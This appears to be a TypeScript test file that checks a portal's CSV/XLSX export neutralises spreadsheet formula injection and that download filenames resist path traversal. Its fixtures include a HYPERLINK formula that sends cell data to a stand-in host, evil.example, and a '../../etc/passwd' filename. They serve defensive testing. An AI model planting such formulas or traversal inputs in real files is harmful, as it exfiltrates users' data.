import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { PortalError } from './errors.ts'
import { neutraliseCell, tableFile, tableFormat } from './table-export.ts'
import { asciiFileName, contentDisposition, download } from './download.ts'

describe('neutraliseCell', () => {
  it('prefixes text that a spreadsheet would run as a formula', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutraliseCell(`${start}HYPERLINK("http://x","y")`)).toBe(`'${start}HYPERLINK("http://x","y")`)
  })
  it('leaves ordinary text, numbers and empty cells alone', () => {
    expect(neutraliseCell('Traoré Awa')).toBe('Traoré Awa')
    expect(neutraliseCell('a=b')).toBe('a=b')
    expect(neutraliseCell(-3)).toBe(-3)
    expect(neutraliseCell(null)).toBe('')
    expect(neutraliseCell(undefined)).toBe('')
  })
})

const table = { headers: ['Nom', 'Score'], rows: [['=HYPERLINK("http://evil.example/?d="&A1,"clic")', 80], ['Koné', 95]], sheet: 'Progression', title: 'Suivi' }

describe('tableFile', () => {
  it('writes a CSV with a BOM, French headers first and formulas neutralised', async () => {
    const text = (await tableFile(table, 'csv')).toString('utf8')
    expect(text.startsWith('\uFEFFNom;Score\n')).toBe(true)
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""clic"")";80`)
    expect(text).not.toMatch(/^"?=/m)
  })

  it('writes an XLSX whose cells hold the neutralised text, not a formula', async () => {
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load((await tableFile(table, 'xlsx')) as never)
    const sheet = workbook.getWorksheet('Progression')!
    expect(sheet.getRow(1).getCell(1).value).toBe('Suivi')
    expect(sheet.getRow(2).values).toEqual([undefined, 'Nom', 'Score'])
    const cell = sheet.getRow(3).getCell(1)
    expect(cell.value).toBe(`'=HYPERLINK("http://evil.example/?d="&A1,"clic")`)
    expect(cell.formula).toBeUndefined()
    expect(sheet.getRow(3).getCell(2).value).toBe(80)
  })
})

describe('tableFormat', () => {
  it('defaults when missing, accepts csv and xlsx, and refuses anything else with a French 400', () => {
    expect(tableFormat(new URLSearchParams())).toBe('csv')
    expect(tableFormat(new URLSearchParams('format=xlsx'))).toBe('xlsx')
    let error: unknown
    try {
      tableFormat(new URLSearchParams('format=pdf'))
    } catch (e) {
      error = e
    }
    expect(error).toBeInstanceOf(PortalError)
    expect(error).toMatchObject({ status: 400, code: 'invalidParameter', message: 'Paramètre « format » invalide : csv ou xlsx.' })
  })
})

describe('download', () => {
  it('names the file safely in ASCII and exactly in UTF-8, and is never cached or sniffed', async () => {
    expect(asciiFileName('rapport-Ségou "été".pdf')).toBe('rapport-Segou-ete.pdf')
    expect(asciiFileName('../../etc/passwd')).toBe('etc-passwd')
    expect(contentDisposition('rapport Ségou (2025).pdf')).toBe(`attachment; filename="rapport-Segou-2025.pdf"; filename*=UTF-8''rapport%20S%C3%A9gou%20%282025%29.pdf`)
    const response = download({ body: Buffer.from('%PDF'), kind: 'pdf', fileName: 'émargement.pdf' })
    expect(Object.fromEntries(response.headers)).toMatchObject({
      'content-type': 'application/pdf',
      'cache-control': 'private, no-store',
      'x-content-type-options': 'nosniff',
      'content-disposition': `attachment; filename="emargement.pdf"; filename*=UTF-8''%C3%A9margement.pdf`,
    })
    expect(await response.text()).toBe('%PDF')
  })
})
